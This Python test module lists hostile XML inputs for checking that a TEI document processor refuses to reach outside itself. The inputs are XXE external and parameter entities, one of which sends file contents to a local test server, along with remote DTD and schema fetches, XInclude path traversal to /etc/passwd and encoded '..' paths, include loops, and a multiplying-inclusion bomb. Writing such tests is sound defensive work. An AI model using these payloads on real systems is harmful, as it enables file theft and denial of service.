"""Cases of reaching out: entities, inclusions and pointers that ask for other files, for the web, or for themselves."""

from __future__ import annotations

from tests.hostile.cases import NAMESPACE, XI, Case, declared, including, tei, texts

REACHING = [
    *texts(
        "",
        entity=tei("<p>a &x; b</p>", before=declared('<!ENTITY x SYSTEM "file://SECRET">')),
        entity_by_path=tei("<p>a &x; b</p>", before=declared('<!ENTITY x SYSTEM "../../secret.txt">')),
        entity_public=tei("<p>a &x; b</p>", before=declared('<!ENTITY x PUBLIC "-//x" "SECRET">')),
        entity_of_the_web=tei("<p>a &x; b</p>", before=declared('<!ENTITY x SYSTEM "http://127.0.0.1:PORT/x">')),
        parameter=tei("<p>a &x; b</p>", before=declared('<!ENTITY % x SYSTEM "SECRET"> %x;')),
        parameter_of_the_web=tei("<p>a</p>", before=declared('<!ENTITY % x SYSTEM "http://127.0.0.1:PORT/x"> %x;')),
        parameter_that_sends=tei(
            "<p>a &s; b</p>",
            before=declared(
                '<!ENTITY % f SYSTEM "SECRET"><!ENTITY % e "<!ENTITY s SYSTEM \'http://127.0.0.1:PORT/?%f;\'>"> %e;'
            ),
        ),
        dtd=tei("<p>a &x; b</p>", before='<!DOCTYPE TEI SYSTEM "SECRET">'),
        dtd_of_the_web=tei("<p>a</p>", before='<!DOCTYPE TEI PUBLIC "-//TEI//DTD" "http://127.0.0.1:PORT/x.dtd">'),
        entity_in_a_value=tei('<p n="&x;">a</p>', before=declared('<!ENTITY x SYSTEM "SECRET">')),
        schema=f'<?xml-model href="file://SECRET"?>{tei("<p>a</p>")}',
        schema_of_the_web=f'<?xml-model href="http://127.0.0.1:PORT/x.rng"?>{tei("<p>a</p>")}',
        schema_location=tei(
            "<p>a</p>",
            attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.tei-c.org/ns/1.0 http://127.0.0.1:PORT/x.xsd"',
        ),
        picture=tei(
            '<p>a <graphic url="../../secret.txt"/><graphic url="SECRET"/><graphic url="..%2f..%2fsecret.txt"/></p>'
        ),
        picture_of_the_web=tei(
            '<p>a <graphic url="http://127.0.0.1:PORT/spy.png"/><media url="//127.0.0.1:PORT/x.mp4"/></p>'
        ),
        pointer=tei('<p>a <ref target="../../secret.txt">b</ref><ref target="file://SECRET">c</ref></p>'),
    ),
    *texts(
        "include-outside",
        include=tei(f'<p>a <xi:include {XI} href="file://SECRET" parse="text"/> b</p>'),
        include_by_path=tei(f'<p>a <xi:include {XI} href="../../secret.txt" parse="text"/> b</p>'),
        include_of_the_root=tei(f'<p>a <xi:include {XI} href="/etc/passwd" parse="text"/> b</p>'),
        include_in_disguise=tei(f'<p>a <xi:include {XI} href="%2e%2e/%2e%2e/secret.txt" parse="text"/> b</p>'),
        include_through_a_folder=tei(f'<p>a <xi:include {XI} href="x/y/../../../../secret.txt" parse="text"/> b</p>'),
        include_of_the_web=tei(f'<p>a <xi:include {XI} href="http://127.0.0.1:PORT/x"/> b</p>'),
        include_with_a_fallback=tei(
            f'<p>a <xi:include {XI} href="SECRET"><xi:fallback><xi:include href="../../secret.txt" parse="text"/></xi:fallback></xi:include> b</p>'
        ),
    ),
    *texts(
        "include-missing",
        include_of_what_is_not_there=tei(f'<p>a <xi:include {XI} href="gone.xml"/> b</p>'),
        include_of_a_folder=tei(f'<p>a <xi:include {XI} href="."/> b</p>'),
        include_of_an_expression=tei(
            f'<p>a <xi:include {XI} href="include-of-an-expression.xml" parse="xml" xpointer="xpointer(document(\'SECRET\'))"/> b</p>'
        ).replace('href="include-of-an-expression.xml"', 'href="p.xml"'),
    ),
    Case(
        "include-of-itself",
        {
            "include-of-itself.xml": tei(
                f"<p>a</p>{including('include-of-itself.xml', attributes='xpointer=' + chr(34) + 'p' + chr(34))}"
            )
        },
        "include-loop",
    ),
    Case(
        "circle-of-two",
        {
            "circle-of-two.xml": tei(f"<p>a</p>{including('p.xml')}"),
            "p.xml": including("q.xml"),
            "q.xml": including("p.xml"),
        },
        "include-loop",
    ),
    Case(
        "circle-of-three",
        {
            "circle-of-three.xml": tei(f"<p>a</p>{including('p.xml')}"),
            "p.xml": including("q.xml"),
            "q.xml": including("r.xml"),
            "r.xml": including("./x/../p.xml"),
        },
        "include-loop",
    ),
    Case(
        "inclusions-that-multiply",
        {"inclusions-that-multiply.xml": tei(f"<p>a</p>{including('p0.xml')}")}
        | {f"p{n}.xml": including(f"p{n + 1}.xml", 10) for n in range(7)}
        | {"p7.xml": f"<p {NAMESPACE}>again</p>"},
        "too-large",
        slow=True,
    ),
    Case(
        "collection-of-itself",
        {
            "collection-of-itself.xml": f'<teiCorpus {NAMESPACE} {XI}><teiHeader/><xi:include href="collection-of-itself.xml"/>{tei("<p>x</p>")}</teiCorpus>'
        },
        "include-loop",
    ),
]
TOGETHER = {"reaching": REACHING}
